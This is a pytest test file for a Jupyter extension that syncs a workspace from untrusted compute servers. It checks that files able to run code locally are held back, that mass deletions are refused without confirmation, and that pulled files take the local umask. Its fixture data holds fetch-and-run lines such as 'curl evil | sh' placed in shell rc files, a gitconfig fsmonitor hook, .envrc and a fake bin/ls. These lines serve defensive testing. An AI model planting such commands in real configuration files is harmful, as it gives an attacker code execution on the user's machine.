"""A compute server is not trusted: what its sync process sends must never run code on the
Jupyter host, write outside the Jupyter root or stall Jupyter.

The engine runs here against the real sync agent in a process of its own (on pipes), or
against a hostile stand-in that answers with what it likes; the API tests use a real Jupyter
server (pytest-jupyter) with the extension."""

from __future__ import annotations

import os
import time
from pathlib import Path
from typing import Any

import pytest

from jupyter_compute_servers.models import ServerConfig
from jupyter_compute_servers.store import ServerStore
from jupyter_compute_servers.sync.engine import SyncEngine, SyncRefused
from jupyter_compute_servers.sync.records import SyncStore
from jupyter_compute_servers.sync.settings import SyncSettings
from jupyter_compute_servers.sync.transfer import SyncSession

MARKER = ".jupyter-compute-servers-sync.json"


def files(root: Path) -> dict[str, bytes]:
    return {
        p.relative_to(root).as_posix(): p.read_bytes()
        for p in root.rglob("*")
        if p.is_file() and not p.is_symlink() and p.name != MARKER
    }


def write(root: Path, tree: dict[str, str]) -> None:
    for name, content in tree.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(content)


class Pair:
    """The Jupyter root ("local"), a server's workspace ("remote"), a record, and the real
    sync agent serving the workspace in its own process."""

    def __init__(self, tmp: Path) -> None:
        self.local, self.remote = tmp / "local", tmp / "remote"
        self.local.mkdir()
        self.remote.mkdir()
        self.servers = ServerStore(f"sqlite:///{tmp / 'servers.db'}", clock=time.time)
        self.servers.create(
            name="box",
            color="#000000",
            notes="",
            cloud="local",
            config=ServerConfig(),
            idle_timeout_minutes=None,
            spend_limit=None,
        )
        self.store = SyncStore(self.servers.path)
        self.session: SyncSession | None = None

    async def sync(self, settings: SyncSettings | None = None, **kwargs: Any) -> dict[str, Any]:
        if self.session is None:
            self.session = await SyncSession.in_subprocess()
        await self.session.open(str(self.remote))
        engine = SyncEngine(
            local_root=str(self.local),
            session=self.session,
            store=self.store,
            server_id=1,
            server_name="box",
            settings=settings or SyncSettings(),
            **kwargs,
        )
        return (await engine.run()).to_json()

    async def close(self) -> None:
        if self.session is not None:
            await self.session.close()
        self.store.close()
        self.servers.close()


@pytest.fixture
def pair(tmp_path, jp_asyncio_loop):
    pair = Pair(tmp_path)
    yield pair
    jp_asyncio_loop.run_until_complete(pair.close())


# --- files that could run code here --------------------------------------------------------


async def test_a_pull_holds_back_what_could_run_code_here_until_allowed_by_name(pair):
    local, remote = pair.local, pair.remote
    write(local, {".npmrc": "registry=mine\n", ".Rprofile": "mine\n", "notes.txt": "hi"})
    first = await pair.sync()
    assert first["sent"]["files"] == 3 and first["held_back"]["files"] == 0
    # The server changes, adds and deletes files that shells, git, editors and runtimes read.
    evil = {
        ".bash_aliases": "alias ls='curl evil | sh'\n",
        ".zshenv": "curl evil | sh\n",
        ".gitconfig": "[core]\n\tfsmonitor = curl evil | sh\n",
        ".hgrc": "[hooks]\n",
        ".condarc": "channels: [evil]\n",
        ".vimrc": "!curl evil\n",
        ".envrc": "curl evil | sh\n",
        ".julia/config/startup.jl": "run(`curl evil`)\n",
        "proj/.envrc": "curl evil | sh\n",
        "proj/.vscode/settings.json": "{}\n",
        "sitecustomize.py": "import os\n",
        "lib/usercustomize.py": "import os\n",
        "jupyter_server_config.py": "c = 1\n",
        "bin/ls": "#!/bin/sh\ncurl evil | sh\n",
        ".npmrc": "registry=evil\n",
    }
    write(remote, evil)
    (remote / ".Rprofile").unlink()
    write(remote, {"results.csv": "1,2\n", "proj/main.py": "print(1)\n"})

    summary = await pair.sync()
    assert files(local) == {
        ".npmrc": b"registry=mine\n",
        ".Rprofile": b"mine\n",
        "notes.txt": b"hi",
        "results.csv": b"1,2\n",
        "proj/main.py": b"print(1)\n",
    }
    held = {entry["path"]: entry["action"] for entry in summary["held_back"]["paths"]}
    assert held == {**dict.fromkeys(evil, "pull"), ".Rprofile": "delete_local"}
    assert summary["held_back"]["files"] == len(evil) + 1
    assert summary["held_back"]["message"] == (
        f"held back: {len(evil) + 1} file(s) that could run code here; "
        "allow them by name in Sync settings"
    )
    assert summary["deleted"] == {"local": 0, "remote": 0}
    # Nothing is lost on the server either.
    assert files(remote) == {
        **{name: content.encode() for name, content in evil.items()},
        "notes.txt": b"hi",
        "results.csv": b"1,2\n",
        "proj/main.py": b"print(1)\n",
    }
    # Held back again next time (and still listed), until allowed by name.
    again = await pair.sync()
    assert again["held_back"]["files"] == len(evil) + 1 and again["received"]["files"] == 0
    allowed = SyncSettings(pull_executable_config=(".npmrc", "proj/", "/bin/ls", "!proj/.vscode/"))
    summary = await pair.sync(allowed)
    assert (local / ".npmrc").read_text() == "registry=evil\n"
    assert (local / "proj" / ".envrc").read_text() == "curl evil | sh\n"
    assert (local / "proj" / ".vscode" / "settings.json").exists()  # inside an allowed dir
    assert (local / "bin" / "ls").exists()
    assert not (local / ".bash_aliases").exists() and (local / ".Rprofile").exists()
    assert summary["held_back"]["files"] == len(evil) + 1 - 4


async def test_a_chmod_or_conflict_from_the_server_never_changes_a_held_back_file(pair):
    local, remote = pair.local, pair.remote
    write(local, {".envrc": "export A=1\n", ".env": "A=1\n"})
    await pair.sync()
    (remote / ".envrc").chmod(0o755)
    (remote / ".env").write_text("A=2, theirs\n")
    (local / ".env").write_text("A=3, mine\n")
    summary = await pair.sync()
    assert (local / ".envrc").stat().st_mode & 0o777 == 0o644
    assert (local / ".env").read_text() == "A=3, mine\n"
    assert (remote / ".env").read_text() == "A=2, theirs\n"
    assert sorted(files(local)) == [".env", ".envrc"]
    held = {entry["path"]: entry["action"] for entry in summary["held_back"]["paths"]}
    assert held == {".envrc": "chmod_local", ".env": "conflict"}


# --- mass deletions -------------------------------------------------------------------------


async def test_a_server_that_keeps_one_file_cannot_delete_every_copy_here_unasked(pair):
    names = {f"paper-{i}.tex": f"chapter {i}" for i in range(6)}
    write(pair.local, names)
    await pair.sync()
    for name in list(names)[1:]:
        (pair.remote / name).unlink()
    with pytest.raises(SyncRefused) as refused:
        await pair.sync()
    message = str(refused.value)
    assert "would delete 5 of the 6 synced file(s) on the Jupyter root" in message
    assert "limit of 50%" in message and "confirm_deletions" in message
    assert files(pair.local) == {k: v.encode() for k, v in names.items()}
    # A higher limit for this server, or a confirmation, lets it through.
    assert await pair.sync(SyncSettings(max_delete_percent=90)) is not None
    write(pair.remote, dict(list(names.items())[1:]))
    await pair.sync()
    for name in list(names)[1:]:
        (pair.remote / name).unlink()
    summary = await pair.sync(confirm_deletions=True)
    assert summary["deleted"] == {"local": 5, "remote": 0}
    assert summary["deletion_guard"] == {
        "local": 5,
        "remote": 0,
        "synced": 6,
        "max_percent": 50,
        "empty_side": None,
        "confirmed": True,
    }
    assert list(files(pair.local)) == ["paper-0.tex"]


# --- permissions -----------------------------------------------------------------------------


async def test_pulled_files_get_the_local_umask_and_the_server_keeps_its_modes(pair):
    remote = pair.remote
    write(remote, {"shared.txt": "x", "tool.sh": "#!/bin/sh\n", "private.txt": "p"})
    (remote / "shared.txt").chmod(0o666)
    (remote / "tool.sh").chmod(0o777)
    (remote / "private.txt").chmod(0o600)
    old = os.umask(0o027)
    try:
        summary = await pair.sync()
        assert summary["received"]["files"] == 3
        modes = {p.name: p.stat().st_mode & 0o777 for p in pair.local.iterdir() if p.is_file()}
        assert modes["shared.txt"] == 0o640
        assert modes["tool.sh"] == 0o750
        assert modes["private.txt"] == 0o600
        # Nothing to do next time, and the server's modes were left alone.
        again = await pair.sync()
        assert again["changes"] == [] and again["chmod"] == {"local": 0, "remote": 0}
        assert (remote / "shared.txt").stat().st_mode & 0o777 == 0o666
        assert (remote / "tool.sh").stat().st_mode & 0o777 == 0o777
        # A mode the server changes comes through the umask too.
        (remote / "private.txt").chmod(0o777)
        chmod = await pair.sync()
        assert chmod["chmod"] == {"local": 1, "remote": 0}
        assert (pair.local / "private.txt").stat().st_mode & 0o777 == 0o750
    finally:
        os.umask(old)
